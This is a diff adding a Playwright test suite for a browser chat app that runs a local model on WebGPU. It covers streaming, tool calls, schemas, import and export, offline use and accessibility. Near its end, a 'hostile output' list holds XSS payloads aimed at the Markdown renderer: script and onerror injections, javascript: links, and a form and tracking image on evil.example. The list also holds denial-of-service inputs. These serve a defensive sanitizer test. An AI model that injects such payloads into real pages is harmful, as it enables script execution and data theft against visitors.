@@ -1,0 +1,664 @@
+// The app in Chromium, with WebGPU by SwiftShader and the built-in model: each feature by what a visitor sees of it.
+
+import assert from 'node:assert/strict';
+import { createRequire } from 'node:module';
+import { readFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import { build } from 'esbuild';
+import type { BrowserContext, Page } from 'playwright-core';
+import { findChromium, visit as visitURL } from './browser.ts';
+import type * as harness from './harness.ts';
+import { serve, type Server } from './server.ts';
+
+const timeout = 400_000; // milliseconds: a processor that plays a GPU, shared with others, may compile for minutes
+const skip = findChromium() ? false : 'Chromium is not installed: install it, or set CHROMIUM to its path';
+const dist = dirname(dirname(fileURLToPath(import.meta.url)));
+
+/** What the page's worker is asked, and what the page's policy forbids. */
+const spy = `
+  globalThis.asked = [];
+  const post = Worker.prototype.postMessage;
+  Worker.prototype.postMessage = function (message, ...rest) {
+    if (message?.kind === 'chat') {
+      globalThis.asked.push(JSON.parse(message.body));
+    }
+    return post.call(this, message, ...rest);
+  };
+  globalThis.violations = [];
+  addEventListener('securitypolicyviolation', (e) => globalThis.violations.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + e.sample));`;
+
+interface Asked {
+  messages: { role: string; content: string; tool_call_id?: string; tool_calls?: { id: string }[] }[];
+  reasoning_effort: string;
+  temperature?: number;
+  tools?: { function: { name: string } }[];
+  tool_choice?: unknown;
+  response_format?: { json_schema: { schema: unknown } };
+}
+declare const globalThis: { asked: Asked[]; violations: string[]; harness: typeof harness; before: Element; seen: unknown[] } & typeof window;
+
+describe('the page in Chromium', { skip }, () => {
+  let server: Server;
+  const open = new Set<BrowserContext>();
+  const problems: string[] = [];
+
+  before(async () => {
+    // Under a path of its own, as on any host.
+    server = await serve({ '/some/where/': dist });
+    await build({ entryPoints: [join(dirname(dist), 'test/harness.ts')], outfile: join(dist, 'test/harness.js'), bundle: true, format: 'esm', logLevel: 'warning', define: { BUILD: '"test"' } });
+  });
+  after(async () => {
+    await Promise.all([...open].map((context) => context.close()));
+    await server?.close();
+  });
+
+  const visit = async (path = '', options: Parameters<typeof visitURL>[1] = {}): Promise<{ page: Page; context: BrowserContext }> => {
+    const tab = await visitURL(`${server.url}some/where/${path}`, { ...options, script: `${spy};${options.script ?? ''}` });
+    open.add(tab.context);
+    tab.context.on('close', () => open.delete(tab.context));
+    tab.page.on('pageerror', (e) => problems.push(e.message));
+    tab.page.setDefaultTimeout(60_000);
+    return tab;
+  };
+  /** Ends a visit, in which nothing may have gone wrong unseen. */
+  const leave = async ({ page, context }: { page: Page; context: BrowserContext }) => {
+    assert.deepEqual(await page.evaluate(() => globalThis.violations), []);
+    assert.deepEqual(problems.splice(0), []);
+    await context.close();
+  };
+
+  const box = (page: Page) => page.getByLabel('Message', { exact: true });
+  const lastAnswer = (page: Page) => page.locator('.assistant').last();
+  const asked = (page: Page) => page.evaluate(() => globalThis.asked);
+  const ready = (page: Page) => page.locator('#model-button').filter({ hasText: 'of GPU memory' }).waitFor({ timeout });
+  const idle = (page: Page) => page.locator('.send[data-mode="send"]').waitFor({ timeout });
+  const ask = async (page: Page, question: string) => {
+    await box(page).fill(question);
+    await page.keyboard.press('Enter');
+  };
+  const importFile = async (page: Page, name: string, text: string) => {
+    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'Import' }).click()]);
+    await chooser.setFiles({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
+    await page.getByText('Imported.').last().waitFor();
+  };
+  const exportAs = async (page: Page, kind: 'Markdown' | 'JSON') => {
+    await page.locator('#conversations .current .icon-button').click();
+    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: `Export as ${kind}` }).click()]);
+    return { name: download.suggestedFilename(), text: readFileSync(await download.path(), 'utf8') };
+  };
+  const settings = async (page: Page, tab: string) => {
+    await page.getByRole('button', { name: 'Settings' }).click();
+    await page.getByRole('tab', { name: tab }).click();
+  };
+  const close = (page: Page) => page.getByRole('button', { name: 'Close' }).click();
+  const file = (messages: object[], options: object = {}) => JSON.stringify({
+    format: 'gossamer-conversations', version: 1,
+    conversations: [{ id: 'x', title: 'Imported conversation', created: 1, updated: 1, options, leaf: `m${messages.length - 1}`,
+      messages: messages.map((m, i) => ({ id: `m${i}`, parent: i ? `m${i - 1}` : null, created: i, ...m })) }],
+  });
+  /** Problems that axe finds, in words. */
+  const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+  const checkAccessibility = async (page: Page, what: string) => {
+    await page.waitForTimeout(300); // transitions end
+    // Through the debugger, which the page's policy does not bind.
+    const results = await page.evaluate(`${axeSource}; axe.run(document, { resultTypes: ['violations'] })`) as { violations: { id: string; nodes: { html: string; failureSummary: string }[] }[] };
+    assert.deepEqual(results.violations.map((v) => `${what}: ${v.id}: ${v.nodes.map((n) => `${n.html} ${n.failureSummary}`).join('; ')}`), []);
+  };
+
+  describe('with the built-in model', () => {
+    let tab: Awaited<ReturnType<typeof visit>>;
+    let page: Page;
+    /** A test that failed leaves the page as it is; the next ones need it idle. */
+    const calm = async () => {
+      await page.keyboard.press('Escape');
+      await idle(page);
+    };
+
+    test('opens by itself, and a question that was asked before is answered, streamed, with its reasoning', { timeout }, async () => {
+      tab = await visit();
+      page = tab.page;
+      await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
+      await page.evaluate(() => {
+        // What the answer said, as it grew.
+        globalThis.seen = [];
+        new MutationObserver(() => {
+          const text = document.querySelector('.assistant .markdown')?.textContent;
+          const thought = document.querySelector('.assistant .reasoning .plain')?.textContent ?? '';
+          globalThis.seen.push(`${thought.length} ${text?.length}`);
+        }).observe(document.getElementById('thread')!, { subtree: true, childList: true, characterData: true });
+      });
+      await ask(page, 'What is 17 + 25?');
+      await page.locator('.user .bubble', { hasText: 'What is 17 + 25?' }).waitFor();
+      await page.locator('.status', { hasText: 'Reading' }).waitFor();
+      await lastAnswer(page).locator('.stats').waitFor({ timeout });
+      assert.match(await lastAnswer(page).locator('.markdown').innerText(), /42/);
+      assert.match(await lastAnswer(page).locator('summary').innerText(), /^Thought for [\d.]+ s · \d+ tokens$/);
+      assert.match(await lastAnswer(page).locator('.stats').innerText(), /^\d+ tokens · [\d.]+\/s · first after/);
+      assert.equal(await lastAnswer(page).locator('.reasoning .plain').isVisible(), false);
+      await lastAnswer(page).locator('summary').click();
+      assert.ok((await lastAnswer(page).locator('.reasoning .plain').innerText()).length > 5);
+      assert.ok(new Set(await page.evaluate(() => globalThis.seen)).size > 4, 'it came in parts');
+      assert.match(await page.locator('.meter').getAttribute('aria-valuetext') ?? '', /^\d+ of 32,768 tokens of context$/);
+      assert.match(await page.locator('#live').textContent() ?? '', /Answer: .*42/);
+      assert.match(await page.title(), /^What is 17 \+ 25\?/);
+      assert.match(await page.locator('#model-button').innerText(), /gossamer-nano\s+[\d.]+ MB of GPU memory/);
+    });
+
+    test('settings go with the question', { timeout }, async () => {
+      await page.getByLabel('Reasoning effort').selectOption('low');
+      await settings(page, 'Replies');
+      await page.getByLabel('Developer instructions').fill('Answer in one word.');
+      await page.getByLabel('Temperature').fill('0');
+      await page.getByLabel('Longest reply').fill('40');
+      await page.getByLabel('Top-p').fill('7');
+      assert.equal(await page.getByLabel('Top-p').getAttribute('aria-invalid'), 'true');
+      await close(page);
+      await ask(page, 'Say yes.');
+      await idle(page);
+      const last = (await asked(page)).at(-1)!;
+      assert.equal(last.reasoning_effort, 'low');
+      assert.equal(last.temperature, 0);
+      assert.deepEqual(last.messages.map((m) => m.role), ['developer', 'user', 'assistant', 'user']);
+      assert.equal(last.messages[0]!.content, 'Answer in one word.');
+      assert.ok(!('top_p' in last));
+      await page.getByRole('button', { name: 'Instructions', exact: true }).waitFor();
+    });
+
+    test('a reply is stopped by Escape, and made again', { timeout }, async () => {
+      await calm();
+      const answers = await page.locator('.assistant').count();
+      await ask(page, 'What is 30 + 12?');
+      await page.locator('.send[data-mode="stop"]').waitFor();
+      await page.keyboard.press('Escape');
+      await idle(page);
+      await lastAnswer(page).getByText('Stopped.').waitFor();
+      await lastAnswer(page).getByRole('button', { name: 'Answer again' }).click();
+      await lastAnswer(page).locator('.stats').waitFor({ timeout });
+      await idle(page);
+      assert.equal(await page.locator('.assistant').count(), answers + 1);
+      await lastAnswer(page).locator('.alternatives', { hasText: '2/2' }).waitFor();
+      await lastAnswer(page).getByRole('button', { name: 'Previous answer' }).click();
+      await lastAnswer(page).getByText('Stopped.').waitFor();
+      await lastAnswer(page).getByRole('button', { name: 'Next answer' }).click();
+      await lastAnswer(page).locator('.alternatives', { hasText: '2/2' }).waitFor();
+    });
+
+    test('an edited question begins a branch', { timeout }, async () => {
+      await calm();
+      await page.locator('.user').first().hover();
+      await page.locator('.user').first().getByRole('button', { name: 'Edit message' }).click();
+      await page.getByLabel('Edit message').fill('What is 20 + 3?');
+      await page.keyboard.press('Enter');
+      await page.locator('.user .alternatives', { hasText: '2/2' }).waitFor();
+      await lastAnswer(page).locator('.stats').waitFor({ timeout });
+      await idle(page);
+      assert.equal(await page.locator('.user').count(), 1);
+      await page.getByRole('button', { name: 'Previous version' }).click();
+      await page.locator('.user', { hasText: 'What is 30 + 12?' }).waitFor();
+      assert.match(await page.locator('.user').first().innerText(), /17 \+ 25/);
+    });
+
+    test('answers are copied', async () => {
+      await calm();
+      await page.locator('.assistant').first().getByRole('button', { name: 'Copy answer' }).click();
+      assert.match(await page.evaluate(() => navigator.clipboard.readText()), /42/);
+    });
+
+    test('conversations are kept, listed, renamed, deleted and brought back', { timeout }, async () => {
+      await page.getByRole('button', { name: 'New conversation' }).click();
+      await page.getByText('What would you like to know?').waitFor();
+      await page.waitForTimeout(1500);
+      await page.reload();
+      await page.locator('#conversations .title', { hasText: 'What is 17 + 25?' }).click();
+      await page.locator('.assistant .markdown', { hasText: '42' }).first().waitFor();
+      const current = page.locator('#conversations .current');
+      await current.locator('.icon-button').click();
+      await page.getByRole('button', { name: 'Rename' }).click();
+      await page.getByLabel('Title').fill('Sums');
+      await page.keyboard.press('Enter');
+      await current.filter({ hasText: 'Sums' }).waitFor();
+      await current.locator('.icon-button').click();
+      await page.getByRole('button', { name: 'Delete', exact: true }).click();
+      await page.getByText('What would you like to know?').waitFor();
+      await page.getByRole('button', { name: 'Undo' }).click();
+      await page.locator('.user', { hasText: '17 + 25' }).waitFor();
+    });
+
+    test('conversations leave and come back as Markdown and JSON', { timeout }, async () => {
+      const texts = () => page.locator('.bubble, .assistant .markdown').allInnerTexts();
+      const before = await texts();
+      const json = await exportAs(page, 'JSON');
+      const markdown = await exportAs(page, 'Markdown');
+      assert.equal(json.name, 'sums.json');
+      assert.match(markdown.text, /^# Sums\n/);
+      await importFile(page, markdown.name, markdown.text);
+      assert.deepEqual(await texts(), before);
+      assert.equal(await page.locator('.alternatives').count(), 0);
+      await importFile(page, json.name, json.text);
+      assert.deepEqual(await texts(), before);
+      assert.ok(await page.locator('.alternatives').count() > 0, 'with its branches');
+      assert.equal(await page.locator('#conversations li').count(), 3);
+      await page.evaluate(() => (globalThis.asked.length = 0));
+      const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'Import' }).click()]);
+      await chooser.setFiles({ name: 'x.md', mimeType: 'text/markdown', buffer: Buffer.from('# No conversation') });
+      await page.getByText('x.md: This Markdown is not a conversation').waitFor();
+    });
+
+    test('the model calls the calculator, and its result goes back', { timeout }, async () => {
+      await page.getByRole('button', { name: 'New conversation' }).click();
+      await ready(page);
+      await settings(page, 'Tools');
+      await page.getByLabel('calculator').check();
+      await page.getByLabel('clock').check();
+      await page.getByLabel('When it calls').selectOption('calculator');
+      await close(page);
+      await page.getByRole('button', { name: 'Tools: 2' }).waitFor();
+      await ask(page, 'What is 12 * 12?');
+      await page.locator('.call .result').first().waitFor({ timeout });
+      await idle(page);
+      assert.equal(await page.locator('.call h3').first().innerText(), 'calculator');
+      const result = await page.locator('.call .result').first().innerText();
+      assert.ok(result.length > 0);
+      const [first, second] = await asked(page);
+      assert.deepEqual(first!.tools!.map((t) => t.function.name), ['calculator', 'clock']);
+      assert.deepEqual(first!.tool_choice, { type: 'function', function: { name: 'calculator' } });
+      assert.equal(second!.tool_choice, undefined);
+      const [assistant, tool] = second!.messages.slice(-2);
+      assert.equal(tool!.role, 'tool');
+      assert.equal(tool!.content, result);
+      assert.equal(tool!.tool_call_id, assistant!.tool_calls![0]!.id);
+    });
+
+    test('a function of the visitor is defined, called and answered by hand', { timeout }, async () => {
+      await calm();
+      await page.getByRole('button', { name: 'New conversation' }).click();
+      await page.evaluate(() => (globalThis.asked.length = 0));
+      await settings(page, 'Tools');
+      await page.getByLabel('calculator').uncheck();
+      await page.getByLabel('clock').uncheck();
+      await page.getByLabel('Name', { exact: true }).fill('get weather');
+      await page.getByRole('button', { name: 'Add function' }).click();
+      await page.getByText('The name is 1 to 64').waitFor();
+      await page.getByLabel('Name', { exact: true }).fill('get_weather');
+      await page.getByLabel('What it does').fill('Get the weather of a city.');
+      await page.getByRole('button', { name: 'Add function' }).click();
+      await page.locator('#tool-get_weather:checked').waitFor();
+      await page.getByLabel('When it calls').selectOption('required');
+      await close(page);
+      await ask(page, 'What is the weather in Paris?');
+      const result = page.getByLabel('Result of get_weather');
+      await result.waitFor({ timeout });
+      await result.fill('{"temperature": 21, "condition": "sunny"}');
+      await page.getByRole('button', { name: 'Send result' }).click();
+      await page.locator('.call .result', { hasText: 'sunny' }).waitFor();
+      await idle(page);
+      const requests = await asked(page);
+      assert.equal(requests[0]!.tool_choice, 'required');
+      assert.match(requests.at(-1)!.messages.find((m) => m.role === 'tool')!.content, /sunny/);
+      await page.getByRole('button', { name: 'Settings' }).click();
+      await page.getByRole('tab', { name: 'Tools' }).click();
+      await page.getByRole('button', { name: 'Delete get_weather' }).click();
+      assert.equal(await page.locator('#tool-get_weather').count(), 0);
+      await close(page);
+    });
+
+    test('answers follow a schema or are told not to', { timeout }, async () => {
+      await calm();
+      await page.getByRole('button', { name: 'New conversation' }).click();
+      await settings(page, 'Format');
+      await page.getByLabel('JSON schema of answers').fill('{"type": "object", "if": {}}');
+      await page.getByText('"if" is not supported').waitFor();
+      const schema = { type: 'object', properties: { name: { type: 'string' }, age: { type: 'integer' } }, required: ['name', 'age'] };
+      await page.getByLabel('JSON schema of answers').fill(JSON.stringify(schema));
+      await page.getByText('Answers are to follow this schema.').waitFor();
+      await close(page);
+      await ask(page, 'Anna is 30 years old.');
+      await page.locator('.rest .valid, .rest .invalid').waitFor({ timeout });
+      await idle(page);
+      assert.deepEqual((await asked(page)).at(-1)!.response_format!.json_schema.schema, schema);
+      // Answers of which it is known.
+      const answers: [string, RegExp][] = [['{"name": "Anna", "age": 30}', /follows the schema/], ['{"name": "Anna"}', /lacks "age"/], ['Anna', /not JSON/]];
+      for (const [content, verdict] of answers) {
+        await importFile(page, 'x.json', file([{ role: 'user', content: 'x' }, { role: 'assistant', content, finish: 'stop', schema: JSON.stringify(schema) }]));
+        assert.match(await page.locator('.rest').innerText(), verdict);
+      }
+    });
+
+    test('what is stored is listed, and the context is chosen with the model', { timeout }, async () => {
+      await calm();
+      await page.locator('#model-button').click();
+      const item = page.locator('.model', { hasText: 'gossamer-nano' });
+      await item.filter({ hasText: /Open · [\d.]+ MB stored in this browser/ }).waitFor();
+      assert.match(await page.locator('.current-model').innerText(), /of its memory.*Every byte was compared with its published hash/s);
+      await page.getByRole('button', { name: 'Choose gossamer-nano' }).click();
+      await page.locator('.verdict dd', { hasText: 'nothing, it is stored' }).waitFor();
+      await page.getByLabel('Context', { exact: true }).selectOption('1024');
+      await page.locator('.verdict dd', { hasText: '1,024 tokens of context' }).waitFor();
+      await page.getByRole('button', { name: 'Open', exact: true }).click();
+      await ready(page);
+    });
+
+    test('a context that is full leaves out the oldest turns, and shows which', { timeout }, async () => {
+      const turns = Array.from({ length: 12 }, (_, i) => [
+        { role: 'user', content: `Question ${i}: ${'what is one and two '.repeat(10)}` }, { role: 'assistant', content: `Answer ${i}: ${'it is three '.repeat(10)}`, finish: 'stop' },
+      ]).flat();
+      await importFile(page, 'long.json', file(turns, { effort: 'low', sampling: { max_completion_tokens: 20 } }));
+      await page.locator('.cut').waitFor();
+      assert.match(await page.locator('.meter').getAttribute('aria-valuetext') ?? '', /of 1,024 tokens of context; \d+ earlier messages are left out/);
+      await ask(page, 'What is 2 + 2?');
+      await lastAnswer(page).locator('.stats, .error').waitFor({ timeout });
+      const { messages } = (await asked(page)).at(-1)!;
+      assert.ok(messages.length < turns.length && messages.length > 2, `${messages.length} messages`);
+      assert.equal(messages.at(-1)!.content, 'What is 2 + 2?');
+      assert.equal(messages[0]!.role, 'user');
+      assert.equal(await lastAnswer(page).locator('.error').count(), 0);
+      await leave(tab);
+    });
+  });
+
+  test('the app works without a network after the first visit', { timeout }, async () => {
+    const tab = await visit();
+    const { page } = tab;
+    await ready(page);
+    await page.evaluate(() => navigator.serviceWorker.ready);
+    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
+    server.fault = () => ({ cut: 0 });
+    await page.goto(`${server.url}some/where/`);
+    await ready(page);
+    await page.goto(`${server.url}some/where/bench.html`);
+    await page.getByRole('heading', { name: 'Benchmark' }).waitFor();
+    server.fault = () => undefined;
+    await leave(tab);
+  });
+
+  test('a download is paused, resumed and cancelled; what fails says why and is tried again', { timeout }, async () => {
+    server.fault = (path) => (path.includes('/chunks/') ? { stall: 10_000 } : undefined);
+    const tab = await visit();
+    const { page } = tab;
+    await page.locator('.numbers', { hasText: /Loading the weights · [\d.]+ \w+ of [\d.]+ MB/ }).waitFor();
+    await page.getByRole('button', { name: 'Pause' }).click();
+    await page.locator('.numbers', { hasText: 'Paused' }).waitFor();
+    await page.getByRole('button', { name: 'Resume' }).click();
+    await page.locator('.numbers', { hasText: 'Loading the weights' }).waitFor();
+    await page.getByRole('button', { name: 'Cancel' }).click();
+    await page.getByText('No model is open.').waitFor();
+    await ask(page, 'Hello');
+    await page.getByText('No model is open: choose one first.').waitFor();
+    assert.equal(await box(page).inputValue(), 'Hello', 'the question is not lost');
+
+    server.fault = (path) => (path.includes('/chunks/') ? { status: 404 } : undefined);
+    await page.getByRole('button', { name: 'Choose a model' }).click();
+    await page.getByRole('button', { name: 'Choose gossamer-nano' }).click();
+    await page.locator('.verdict', { hasText: /Download [\d.]+ MB and open/ }).waitFor();
+    await page.getByRole('button', { name: /Download .* and open/ }).click();
+    await page.locator('.card.failed', { hasText: /could not be opened: .*404/ }).waitFor();
+    await checkAccessibility(page, 'failure');
+    server.fault = () => undefined;
+    await page.getByRole('button', { name: 'Try again' }).click();
+    await ready(page);
+
+    await page.locator('#model-button').click();
+    await page.getByRole('button', { name: 'Delete gossamer-nano' }).click();
+    await page.locator('.model', { hasText: 'gossamer-nano' }).filter({ hasText: 'not stored' }).waitFor();
+    await page.getByLabel('Any other, by the URL').fill(`${server.url}some/where/nothing/`);
+    await page.getByRole('button', { name: 'Look' }).click();
+    await page.locator('.verdict .error', { hasText: '404' }).waitFor();
+    await leave(tab);
+  });
+
+  test('a model is opened from a folder, and from the published files that nobody packed', { timeout }, async () => {
+    const tab = await visit();
+    const { page } = tab;
+    await ready(page);
+    await page.locator('#model-button').click();
+    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'choose a folder' }).click()]);
+    await chooser.setFiles(join(dist, 'nano'));
+    await page.locator('.verdict h3', { hasText: 'nano' }).waitFor();
+    await page.locator('.verdict dd', { hasText: 'nothing, the files are here' }).waitFor();
+    server.requests.length = 0;
+    await page.getByRole('button', { name: 'Open', exact: true }).click();
+    await page.locator('#model-button', { hasText: /^nano/ }).filter({ hasText: 'of GPU memory' }).waitFor({ timeout });
+    assert.equal(server.requests.filter((r) => r.path.includes('/chunks/')).length, 0);
+    await leave(tab);
+  });
+
+  test('a browser without WebGPU is told which have it, and conversations can still be read', { timeout }, async () => {
+    const tab = await visit('', { args: ['--disable-gpu'] });
+    const { page } = tab;
+    await page.getByText('This browser cannot run the model').waitFor();
+    assert.match(await page.locator('.explain').innerText(), /Chrome.*113.*Safari.*26.*Firefox.*141/s);
+    await checkAccessibility(page, 'no WebGPU');
+    await importFile(page, 'x.json', file([{ role: 'user', content: 'Hello' }, { role: 'assistant', content: '**Hi**', finish: 'stop' }]));
+    await page.locator('.assistant strong', { hasText: 'Hi' }).waitFor();
+    await page.goto(`${server.url}some/where/bench.html`);
+    await page.getByText('This browser cannot run the model').waitFor();
+    await leave(tab);
+  });
+
+  describe('manners', () => {
+    let tab: Awaited<ReturnType<typeof visit>>;
+    let page: Page;
+    before(async () => {
+      server.fault = (path) => (path.includes('/chunks/') ? { stall: 10_000 } : undefined); // nothing that takes the processor
+      tab = await visit();
+      page = tab.page;
+      await page.locator('.numbers', { hasText: 'Loading the weights' }).waitFor({ timeout });
+      await page.evaluate(async (url) => {
+        globalThis.harness = (await import(url)) as typeof harness;
+      }, `${server.url}some/where/test/harness.js`);
+    });
+    after(async () => {
+      server.fault = () => undefined;
+      await leave(tab);
+    });
+
+    const everything = file([
+      { role: 'user', content: 'Show all' },
+      { role: 'assistant', content: '', reasoning: 'Let me call.', reasoningMs: 800, reasoningTokens: 4, finish: 'tool_calls', calls: [{ id: 'a', type: 'function', function: { name: 'calculator', arguments: '{"expression":"1+1"}' } }] },
+      { role: 'tool', content: '2', callID: 'a' },
+      { role: 'assistant', content: '# Title\n\nText with `code`, **bold**, a [link](https://example.org) and $x^2$.\n\n- [x] done\n- [ ] to do\n\n| a | b |\n| --- | ---: |\n| 1 | 2 |\n\n> quote\n\n```python\nprint("hi")  # hi\n```\n\n$$\\int_0^1 x\\,dx$$', finish: 'stop', stats: { promptTokens: 9, tokens: 5, firstTokenMs: 10, tokensPerSecond: 3 } },
+      { role: 'user', content: 'And this?' },
+      { role: 'assistant', content: '', finish: 'tool_calls', calls: [{ id: 'b', type: 'function', function: { name: 'get_weather', arguments: '{}' } }] },
+    ], { tools: ['calculator'] });
+
+    test('no state of the page has an accessibility violation', { timeout }, async () => {
+      await checkAccessibility(page, 'greeting and progress');
+      await importFile(page, 'x.json', everything);
+      await page.locator('.formula.display math').waitFor();
+      await page.locator('.hljs-string').waitFor();
+      await page.locator('.reasoning summary').first().click();
+      for (const colorScheme of ['light', 'dark'] as const) {
+        await page.emulateMedia({ colorScheme });
+        await checkAccessibility(page, `conversation, ${colorScheme}`);
+        await page.getByRole('button', { name: 'Settings' }).click();
+        for (const name of ['Replies', 'Tools', 'Format', 'App']) {
+          await page.getByRole('tab', { name }).click();
+          await checkAccessibility(page, `settings ${name}, ${colorScheme}`);
+        }
+        await close(page);
+        await page.locator('#model-button').click();
+        await page.getByRole('button', { name: 'Choose gossamer-nano' }).click();
+        await page.locator('.verdict dl').waitFor();
+        await checkAccessibility(page, `models, ${colorScheme}`);
+        await close(page);
+      }
+      await page.emulateMedia({ colorScheme: 'light' });
+      await page.setViewportSize({ width: 380, height: 760 });
+      await checkAccessibility(page, 'narrow');
+      await page.getByRole('button', { name: 'Show conversations' }).click();
+      await page.locator('#sidebar.open').waitFor();
+      await checkAccessibility(page, 'narrow, conversations');
+      await page.keyboard.press('Escape');
+      assert.equal(await page.evaluate(() => document.activeElement?.id), 'menu');
+      assert.equal(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), true, 'nothing is wider than a phone');
+      await page.setViewportSize({ width: 1280, height: 800 });
+    });
+
+    test('Markdown is rendered: formulas as MathML, code coloured, tables that scroll', async () => {
+      const answer = page.locator('.assistant').nth(1);
+      assert.equal(await answer.locator('h1').innerText(), 'Title');
+      assert.equal(await answer.locator('math').count(), 2);
+      assert.equal(await answer.locator('.hljs-comment').innerText(), '# hi');
+      assert.equal(await answer.locator('a').getAttribute('rel'), 'noopener noreferrer nofollow');
+      assert.equal(await answer.locator('input[type=checkbox]:disabled').count(), 2);
+    });
+
+    test('the keyboard does everything', { timeout }, async () => {
+      await page.keyboard.press('/');
+      assert.equal(await page.evaluate(() => document.activeElement?.id), 'text');
+      // An Enter that ends a composition does not send; one with Shift begins a line.
+      await box(page).fill('かな');
+      await box(page).dispatchEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true });
+      assert.equal(await box(page).inputValue(), 'かな');
+      await page.keyboard.press('Shift+Enter');
+      assert.equal(await box(page).inputValue(), 'かな\n');
+      await box(page).fill('');
+      await page.keyboard.press('ArrowUp');
+      await page.getByLabel('Edit message').waitFor();
+      await page.keyboard.press('Escape');
+      assert.equal(await page.getByLabel('Edit message').first().evaluate((e) => e.tagName), 'BUTTON');
+      await page.getByRole('button', { name: 'Settings' }).focus();
+      await page.keyboard.press('Enter');
+      await page.getByRole('tab', { name: 'Replies' }).focus();
+      await page.keyboard.press('ArrowRight');
+      await page.locator('#page-tools').waitFor();
+      await page.keyboard.press('Escape');
+      await page.locator('#panel').waitFor({ state: 'hidden' });
+      assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('aria-label')), 'Settings');
+      await page.keyboard.press('Control+Shift+O');
+      await page.getByText('What would you like to know?').waitFor();
+      // The first stop leads past the sidebar.
+      await page.evaluate(() => (document.activeElement as HTMLElement).blur());
+      await page.keyboard.press('Tab');
+      assert.equal(await page.evaluate(() => document.activeElement?.className), 'skip');
+    });
+
+    test('colours follow the system or the visitor, and nothing moves for those who want it so', async () => {
+      const paper = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
+      await page.emulateMedia({ colorScheme: 'light', reducedMotion: 'reduce' });
+      const light = await paper();
+      await page.emulateMedia({ colorScheme: 'dark', reducedMotion: 'reduce' });
+      const dark = await paper();
+      assert.notEqual(light, dark);
+      await settings(page, 'App');
+      await page.getByLabel('Colours').selectOption('light');
+      assert.equal(await paper(), light);
+      await page.getByLabel('Colours').selectOption('system');
+      await close(page);
+      assert.equal(await page.locator('#loading progress').evaluate((e) => getComputedStyle(e).animationName), 'none');
+      await page.emulateMedia({ colorScheme: 'light', reducedMotion: 'no-preference' });
+    });
+
+    /** Has the renderer show a text as it grows; returns what became of it. */
+    const stream = (text: string, parts: number) => page.evaluate(async ({ text, parts }) => {
+      const view = new globalThis.harness.MarkdownView();
+      const holder = document.getElementById('thread')!;
+      holder.replaceChildren(view.element);
+      let longest = 0, moved = 0, replaced = 0;
+      let first: Element | null = null, top = 0;
+      const begin = performance.now();
+      for (let i = 1; i <= parts; i++) {
+        view.update(text.slice(0, Math.ceil((text.length * i) / parts)));
+        const before = performance.now();
+        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
+        longest = Math.max(longest, performance.now() - before);
+        const block = view.element.children[0] ?? null;
+        if (view.element.children.length > 2) {
+          first ??= block;
+          replaced += block === first ? 0 : 1;
+          const now = (view.element.children[1] as HTMLElement).offsetTop;
+          top ||= now;
+          moved += now === top ? 0 : 1;
+        }
+      }
+      await view.finish(text);
+      const took = performance.now() - begin;
+      return { took, longest, moved, replaced, html: view.element.innerHTML.slice(0, 20_000), text: view.element.textContent!, blocks: view.element.children.length, scripts: view.element.querySelectorAll('script, iframe, img, style, object, form, [onclick], [onerror], [style]').length, links: [...view.element.querySelectorAll('a')].map((a) => a.getAttribute('href')) };
+    }, { text, parts });
+
+    test('what is written stays where it is while more comes', { timeout }, async () => {
+      const text = Array.from({ length: 40 }, (_, i) => `Paragraph ${i} with **bold** and \`code\`.\n\n- a\n- b`).join('\n\n');
+      const got = await stream(text, 60);
+      assert.equal(got.replaced, 0);
+      assert.equal(got.moved, 0);
+      assert.equal(got.blocks, 80);
+      const whole = await stream(text, 1);
+      assert.equal(got.html, whole.html, 'what is streamed looks like what is there at once');
+    });
+
+    const hostile: [string, string, number][] = [
+      ['scripts and handlers', '<script>globalThis.pwned = 1</script><img src=x onerror="globalThis.pwned = 1"><svg onload="globalThis.pwned=1"><a href="javascript:globalThis.pwned=1">x</a> <iframe srcdoc="<script>parent.pwned=1</script>"></iframe><style>body{display:none}</style><form action="https://evil.example"><button>x</button></form>\n\n[click](javascript:globalThis.pwned=1) [data](data:text/html,<script>alert(1)</script>) ![x](https://evil.example/track.png) <div style="position:fixed;inset:0" class="sheet" id="text">cover</div> <math><mtext></mtext><mglyph><style><img src=x onerror="globalThis.pwned=1">', 20],
+      ['formulas', '$\\href{javascript:globalThis.pwned=1}{x}$ $\\htmlData{a=b}{x}$ $$\\def\\a{\\a\\a}\\a$$ $\\rule{9999em}{9999em}$ $\\color{red}{x}$', 5],
+      ['a line of 1 MB', 'x'.repeat(1_000_000), 50],
+      ['words of 1 MB in a line', 'word '.repeat(200_000), 50],
+      ['a table of 20,000 rows', `| a | b |\n| --- | --- |\n${'| 1 | 2 |\n'.repeat(20_000)}`, 20],
+      ['code of 1 MB', `\`\`\`js\n${'const x = 1; // comment\n'.repeat(40_000)}\`\`\`\n\nafter`, 20],
+      ['open brackets', '['.repeat(100_000), 10],
+      ['emphasis without end', '*a **b '.repeat(15_000), 10],
+      ['nested quotes', `${'> '.repeat(10_000)}x`, 5],
+      ['nested lists', Array.from({ length: 300 }, (_, i) => `${' '.repeat(2 * i)}- x`).join('\n'), 5],
+      ['ticks and dollars', '`$'.repeat(40_000), 10],
+      ['a fence that never ends', `\`\`\`python\n${'print(1)\n'.repeat(3000)}`, 20],
+      ['many blank lines', '\n'.repeat(200_000) + 'end', 5],
+      ['broken HTML', '<div><p><table><tr><td><'.repeat(3000), 10],
+      ['links and definitions', '[a]: https://example.org\n\n[a] '.repeat(3000), 10],
+    ];
+    for (const [name, text, parts] of hostile) {
+      test(`hostile output: ${name}`, { timeout }, async () => {
+        const got = await stream(text, parts);
+        assert.equal(got.scripts, 0, got.html);
